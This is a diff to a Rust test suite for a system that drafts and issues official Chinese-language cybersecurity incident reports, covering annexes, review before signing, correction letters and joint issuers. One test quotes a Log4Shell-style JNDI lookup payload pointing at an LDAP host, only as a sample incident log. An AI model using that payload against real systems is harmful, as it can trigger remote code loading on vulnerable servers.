@@ -19,6 +19,11 @@ fn annex(name: &str, source: &str, text: &str) -> AnnexDraft {
     AnnexDraft { name: name.into(), source: source.into(), text: text.into() }
 }
 
+/// As the window does where something is drawn from the record: it is shown before it is signed.
+fn shown(office: &mut Office, draft: &ReportDraft) -> ReportDraft {
+    office.desk.report_refill(draft).unwrap()
+}
+
 fn issued(editor: ReportEditor) -> DocumentRow {
     editor.issued.unwrap()
 }
@@ -57,6 +62,8 @@ fn what_is_bound_behind_a_paper_is_named_set_and_frozen_with_it() {
         annex("", "", ""),
     ];
     assert_eq!(blocking(&mut office, &draft), [], "what was recorded goes out whatever characters it bears");
+    assert_eq!(office.desk.report_issue(&draft).unwrap_err().code, "report.annex_changed", "nobody signs what was not shown");
+    let draft = shown(&mut office, &draft);
     let paper = issued(office.desk.report_issue(&draft).unwrap());
     let bytes = office.desk.document_pdf(&paper.id).unwrap();
     let pages = pages_of(&bytes, &office);
@@ -72,13 +79,51 @@ fn what_is_bound_behind_a_paper_is_named_set_and_frozen_with_it() {
     progress(&mut office, &id, 50, "恢复业务");
     assert_eq!(office.desk.document_pdf(&paper.id).unwrap(), bytes);
     let mut office = office.restart();
-    let corrected = office.desk.paper_from(&paper.id, "", "补写恢复情况").unwrap().draft;
+    let begun = office.desk.paper_from(&paper.id, "", "补写恢复情况").unwrap();
+    let told: Vec<&str> = begun.checks.iter().filter(|c| c.field == "attachments:2").map(|c| c.message.as_str()).collect();
+    assert!(told.len() == 1 && told[0].contains("与原来那份不同"), "{told:?}");
+    let corrected = begun.draft;
     let kept: Vec<(&str, &str)> = corrected.attachments.iter().map(|a| (a.name.as_str(), a.source.as_str())).collect();
     assert_eq!(kept, [("机房布线图", ""), ("应急处置经过", "course"), ("受影响终端", "text")]);
     let second = issued(office.desk.report_issue(&corrected).unwrap());
     let bytes = office.desk.document_pdf(&second.id).unwrap();
     let pages = pages_of(&bytes, &office);
     assert!(pages[pages.len() - 2].contains("恢复业务。"), "a correction is drawn from the case as it stands: {pages:?}");
+}
+
+#[test]
+fn what_the_record_adds_after_it_was_checked_is_shown_before_it_is_signed() {
+    let mut office = Office::chongqing();
+    let new = desk::view::NewOperator {
+        name: "赵堃".into(),
+        post: "处长".into(),
+        role: "responsible".into(),
+        passphrase: office::HEAD_PASSPHRASE.into(),
+    };
+    let rows = office.desk.add_operator(&new).unwrap();
+    let head = rows.iter().find(|r| r.name == "赵堃").unwrap().id.clone();
+    let liaison = rows.iter().find(|r| r.name == "李喆").unwrap().id.clone();
+    let id = incident(&mut office);
+    progress(&mut office, &id, 40, "断开网络");
+    let mut draft = complete(office.desk.report_open(&id).unwrap().draft);
+    draft.attachments = vec![annex("应急处置经过", "course", "")];
+    let draft = shown(&mut office, &draft);
+    let step =
+        |draft: &ReportDraft, step: &str| desk::view::PaperStepInput { draft: draft.clone(), step: step.into(), note: String::new() };
+    office.desk.paper_step(&step(&draft, "sent")).unwrap();
+    office.desk.switch_operator(&head, office::HEAD_PASSPHRASE).unwrap();
+    let checked = office.desk.paper_step(&step(&draft, "checked")).unwrap();
+    assert!(!checked.way.changed_since_check);
+    office.desk.switch_operator(&liaison, office::PASSPHRASE).unwrap();
+    progress(&mut office, &id, 50, "恢复业务");
+    office.desk.switch_operator(&head, office::HEAD_PASSPHRASE).unwrap();
+    let stale = office.desk.report_issue(&checked.draft).unwrap_err();
+    assert_eq!((stale.code.as_str(), stale.field.as_deref()), ("report.annex_changed", Some("attachments")));
+    let seen = office.desk.report_open(&id).unwrap();
+    assert!(seen.way.changed_since_check, "what was checked is not what will be signed");
+    let paper = issued(office.desk.report_issue(&seen.draft).unwrap());
+    let bytes = office.desk.document_pdf(&paper.cover.unwrap()).unwrap();
+    assert!(pages_of(&bytes, &office).concat().contains("其后改过正文"));
 }
 
 #[test]
@@ -90,6 +135,7 @@ fn a_numbered_copy_of_an_annexed_paper_is_set_again_from_what_was_frozen() {
     progress(&mut office, &id, 40, "封存日志\u{1F6A8}");
     let mut draft = complete(office.desk.report_open(&id).unwrap().draft);
     draft.attachments = vec![annex("应急处置经过", "course", "")];
+    let draft = shown(&mut office, &draft);
     let paper = issued(office.desk.report_issue(&draft).unwrap());
     let seventh = office.desk.document_pdf_copy(&paper.id, 7).unwrap();
     let pages = pages_of(&seventh, &office);
@@ -111,6 +157,7 @@ fn an_annex_without_name_or_content_stops_the_paper_and_says_which() {
         annex("夹带", "text", "请予支援。"),
         annex("文号", "text", "见金稳〔2026〕01号。"),
         annex("表情", "text", "现场\u{1F600}"),
+        annex("台账", "ledger", ""),
     ];
     let told = blocking(&mut office, &draft);
     for (field, part) in [
@@ -121,12 +168,22 @@ fn an_annex_without_name_or_content_stops_the_paper_and_says_which() {
         ("attachments:5", "13列"),
         ("attachments:6", "报告不得夹带请示事项"),
         ("attachments:7", "发文字号的序号不加零"),
+        ("attachments:9", "附件9没有内容"),
         ("glyph", "U+1F600"),
     ] {
         assert!(told.iter().any(|(f, m)| f == field && m.contains(part)), "{field} {part}: {told:?}");
     }
+    // What a log has in braces is nobody's to reword; a word of a wording that was left is.
+    let with = |text: &str, opening: &str| ReportDraft {
+        attachments: vec![annex("日志", "text", text)],
+        opening: opening.into(),
+        ..draft.clone()
+    };
+    let log = "GET /?x=${jndi:ldap://10.0.0.1/a} {\"user\":\"张三\"}";
+    assert_eq!(blocking(&mut office, &with(log, log)), []);
+    assert_eq!(blocking(&mut office, &with(log, "请{主送}办理。"))[0].0, "opening");
     // It is shown nevertheless: what is missing is seen.
-    draft.attachments.pop();
+    draft.attachments.truncate(7);
     let preview = office.desk.report_preview(&draft).unwrap();
     let pages = pages_of(&preview, &office).concat();
     assert!(pages.contains("附件2待查一段。") && pages.contains("附件3空的待查。"), "{pages}");
@@ -152,6 +209,8 @@ fn the_years_report_bears_the_years_ledger_on_its_side() {
     draft.addressee = "应急工作组".into();
     draft.sections.iter_mut().find(|s| s.id == "analysis").unwrap().text = "加强培训。".into();
     draft.attachments = vec![annex("2026年网络安全事件台账", "ledger", "")];
+    let draft = shown(&mut office, &draft);
+    office.set_clock(45);
     let paper = issued(office.desk.report_issue(&draft).unwrap());
     let bytes = office.desk.document_pdf(&paper.id).unwrap();
     let last = pages_of(&bytes, &office).pop().unwrap();
@@ -172,10 +231,12 @@ fn what_a_report_may_not_ask_for_is_asked_in_a_request_or_a_letter() {
         mark: vec!["重庆市地方金融监督管理局".into()],
         mark_suffix: "文件".into(),
         code: "渝金".into(),
+        letter_code: "渝金函".into(),
         ..office.desk.page_style_view().unwrap()
     };
     office.desk.set_page_style(&head).unwrap();
     let report = complete(office.desk.report_open(&id).unwrap().draft);
+    let report = ReportDraft { opening: format!("{}各单位。", report.opening), ..report };
     let report = ReportDraft { support: "请市网安总队派2名取证人员今日到场。".into(), ..report };
     office.desk.report_save(&report).unwrap();
     let early = office.desk.report_open_as(&id, "support_letter", "").unwrap().draft;
@@ -185,6 +246,7 @@ fn what_a_report_may_not_ask_for_is_asked_in_a_request_or_a_letter() {
     let request = complete(office.desk.report_open_as(&id, "support_request", "").unwrap().draft);
     let ask = |draft: &ReportDraft| draft.sections.iter().find(|s| s.id == "ask").unwrap().text.clone();
     assert_eq!(ask(&request), "请市网安总队派2名取证人员今日到场。");
+    assert_eq!(request.unit, "重庆市地方金融监督管理局", "whose head it bears signs it");
     assert_eq!((request.addressee.as_str(), request.closing.as_str()), ("应急工作组", "妥否，请批示。"));
     let paper = issued(office.desk.report_issue(&request).unwrap());
     let bytes = office.desk.document_pdf(&paper.id).unwrap();
@@ -201,7 +263,7 @@ fn what_a_report_may_not_ask_for_is_asked_in_a_request_or_a_letter() {
     };
     assert_eq!(blocking(&mut office, &unknown)[0].0, "section:ask");
     let paper = issued(office.desk.report_issue(&letter).unwrap());
-    assert_eq!((paper.number.as_str(), paper.kind_name.as_str()), ("渝金〔2026〕3号", "商请协助函"));
+    assert_eq!((paper.number.as_str(), paper.kind_name.as_str()), ("渝金函〔2026〕1号", "商请协助函"), "a series of its own");
     let bytes = office.desk.document_pdf(&paper.id).unwrap();
     let pages = pages_of(&bytes, &office);
     assert!(!pages[0].contains("文件渝金") && !pages[0].contains("签发人") && !pages[0].contains("—1—"), "信函格式: {}", pages[0]);
@@ -209,7 +271,18 @@ fn what_a_report_may_not_ask_for_is_asked_in_a_request_or_a_letter() {
     let corrected = office.desk.paper_from(&paper.id, "", "改到场时间").unwrap().draft;
     let second = issued(office.desk.report_issue(&corrected).unwrap());
     let bytes = office.desk.document_pdf(&second.id).unwrap();
-    assert!(pages_of(&bytes, &office).concat().contains("本函为更正函（第2版），替代渝金〔2026〕3号"));
+    assert!(pages_of(&bytes, &office).concat().contains("本函为更正函（第2版），替代渝金函〔2026〕1号"));
+
+    // The request is answered by whoever got it; one's own is not answered here.
+    let offers = office.desk.papers_offered(&id).unwrap();
+    let reply = offers.iter().find(|o| o.kind.id == "support_reply").unwrap();
+    assert!(!reply.ready && reply.reason == "由收到请示的一方答复", "{}", reply.reason);
+    // What a later report keeps to be asked for goes before what was asked already.
+    let mut later = office.desk.report_open_as(&id, "follow_up_report", "").unwrap().draft;
+    later.support = "请再派1名恢复人员。".into();
+    office.desk.report_save(&later).unwrap();
+    let second = office.desk.report_open_as(&id, "support_request", "").unwrap().draft;
+    assert_eq!(ask(&second), "请再派1名恢复人员。");
 }
 
 #[test]
@@ -225,11 +298,25 @@ fn bodies_that_issue_a_paper_together_stand_in_its_head_and_sign_it() {
     office.desk.set_page_style(&head).unwrap();
     let draft = complete(office.desk.report_open(&id).unwrap().draft);
     let joint = |names: &str| ReportDraft { joint: names.into(), signer: "赵堃、钱进".into(), ..draft.clone() };
-    let told = blocking(&mut office, &joint("发展中心、金融稳定处"));
+    let told = blocking(&mut office, &joint("发展中心、发展中心"));
     assert!(told.iter().any(|(f, m)| f == "joint" && m.contains("写了两次")), "{told:?}");
     let told = blocking(&mut office, &joint("甲、乙、丙、丁、戊、己"));
     assert!(told.iter().any(|(f, m)| f == "joint" && m.contains("超过6个")), "{told:?}");
-    let paper = issued(office.desk.report_issue(&joint("发展中心，综合处")).unwrap());
+    let told = blocking(&mut office, &joint("重庆市地方金融监督管理局"));
+    assert!(told.iter().any(|(f, _)| f == "joint"), "the head's own name is no other: {told:?}");
+    let told = blocking(&mut office, &joint(&"长".repeat(61)));
+    assert!(told.iter().any(|(f, m)| f == "joint" && m.contains("超过60个字")), "{told:?}");
+    let told = blocking(&mut office, &joint("相关处室"));
+    assert!(told.iter().any(|(f, m)| f == "joint" && m.contains("泛称")), "{told:?}");
+    let remarks = |draft: &ReportDraft, office: &mut Office| {
+        office.desk.report_check(draft).unwrap().into_iter().filter(|c| !c.blocks).map(|c| c.field).collect::<Vec<_>>()
+    };
+    let by_two = joint("发展中心，综合处");
+    assert!(remarks(&by_two, &mut office).contains(&"signer".to_owned()), "three bodies, two signers");
+    assert!(!remarks(&by_two, &mut office).contains(&"unit".to_owned()));
+    let by_office = ReportDraft { unit: "金融稳定处".into(), ..by_two.clone() };
+    assert!(remarks(&by_office, &mut office).contains(&"unit".to_owned()), "head and 署名 are two bodies");
+    let paper = issued(office.desk.report_issue(&by_two).unwrap());
     let bytes = office.desk.document_pdf(&paper.id).unwrap();
     let pages = pages_of(&bytes, &office);
     let all = pages.concat();
@@ -237,7 +324,7 @@ fn bodies_that_issue_a_paper_together_stand_in_its_head_and_sign_it() {
         assert!(pages[0].contains(part), "{part}: {}", pages[0]);
     }
     let signed = all.split("特此报告。").nth(1).unwrap();
-    for unit in ["金融稳定处", "发展中心", "综合处"] {
+    for unit in ["重庆市地方金融监督管理局", "发展中心", "综合处"] {
         assert!(signed.contains(unit), "{unit}: {signed}");
     }
 }
